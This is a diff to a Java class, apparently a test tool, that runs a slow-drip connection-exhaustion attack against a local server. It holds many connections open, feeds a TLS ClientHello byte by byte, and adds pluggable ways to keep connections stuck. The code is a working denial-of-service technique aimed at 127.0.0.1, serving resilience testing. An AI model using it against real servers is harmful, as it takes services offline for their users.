@@ -10,10 +10,11 @@ import java.nio.channels.Selector;
 import java.nio.channels.SocketChannel;
 import java.time.Duration;
 import java.util.concurrent.atomic.AtomicLong;
+import java.util.function.Supplier;
 
 /**
- * Attacker who keeps a number of dripping connections, and replaces each that is closed.
- * One that the server does not accept is tried anew with a fresh SYN every 200 ms.
+ * Attacker who keeps a number of stuck connections, and replaces each that is closed. One
+ * that the server does not accept is tried anew with a fresh SYN every 200 ms.
  */
 public final class Attack implements AutoCloseable {
 
@@ -23,7 +24,7 @@ public final class Attack implements AutoCloseable {
 
 	private final InetSocketAddress address;
 
-	private final byte[] hello = ClientHello.of("localhost").bytes();
+	private final Supplier<Script> scripts;
 
 	private final Connection[] connections;
 
@@ -37,7 +38,8 @@ public final class Attack implements AutoCloseable {
 
 	private volatile boolean ended;
 
-	private Attack(int connections, int port) throws IOException {
+	private Attack(StuckKind kind, int connections, int port) throws IOException {
+		this.scripts = kind.scripts(ClientHello.of("localhost"));
 		this.address = new InetSocketAddress(InetAddress.getByName("127.0.0.1"), port);
 		this.connections = new Connection[connections];
 		this.selector = Selector.open();
@@ -45,14 +47,26 @@ public final class Attack implements AutoCloseable {
 	}
 
 	/**
-	 * Start an attack.
+	 * Start an attack that drips.
 	 * @param connections the number of connections to keep
 	 * @param port the local port to attack
 	 * @return the attack, which goes on until it is closed
 	 * @throws IOException if it cannot be started
 	 */
 	public static Attack start(int connections, int port) throws IOException {
-		Attack attack = new Attack(connections, port);
+		return start(StuckKind.DRIPPING, connections, port);
+	}
+
+	/**
+	 * Start an attack.
+	 * @param kind the way in which the connections get stuck
+	 * @param connections the number of connections to keep
+	 * @param port the local port to attack
+	 * @return the attack, which goes on until it is closed
+	 * @throws IOException if it cannot be started
+	 */
+	public static Attack start(StuckKind kind, int connections, int port) throws IOException {
+		Attack attack = new Attack(kind, connections, port);
 		attack.thread.start();
 		return attack;
 	}
@@ -106,9 +120,11 @@ public final class Attack implements AutoCloseable {
 
 		private final SocketChannel channel = SocketChannel.open();
 
+		private final Script script = Attack.this.scripts.get();
+
 		private long nextStep = System.nanoTime() + CONNECT_INTERVAL;
 
-		private int sent;
+		private boolean finished;
 
 		Connection() throws IOException {
 			this.channel.configureBlocking(false);
@@ -121,6 +137,7 @@ public final class Attack implements AutoCloseable {
 				if (key.isConnectable() && this.channel.finishConnect()) {
 					key.interestOps(SelectionKey.OP_READ);
 					this.nextStep = System.nanoTime();
+					this.channel.write(this.script.opening());
 				}
 				else if (key.isReadable() && this.channel.read(Attack.this.buffer.clear()) == -1) {
 					end();
@@ -133,18 +150,18 @@ public final class Attack implements AutoCloseable {
 
 		boolean isOver() {
 			boolean unaccepted = this.channel.isConnectionPending() && System.nanoTime() > this.nextStep;
-			if (unaccepted || this.sent == Attack.this.hello.length - 1) {
+			if (unaccepted || this.finished) {
 				end();
 			}
 			return !this.channel.isOpen();
 		}
 
 		void drip() {
-			if (!this.channel.isConnected() || System.nanoTime() < this.nextStep) {
+			if (!this.script.isDripping() || !this.channel.isConnected() || System.nanoTime() < this.nextStep) {
 				return;
 			}
 			try {
-				this.sent += this.channel.write(ByteBuffer.wrap(Attack.this.hello, this.sent, 1));
+				this.finished = this.channel.write(this.script.nextDrip()) == 0;
 				this.nextStep = System.nanoTime() + DRIP_INTERVAL;
 			}
 			catch (IOException ex) {
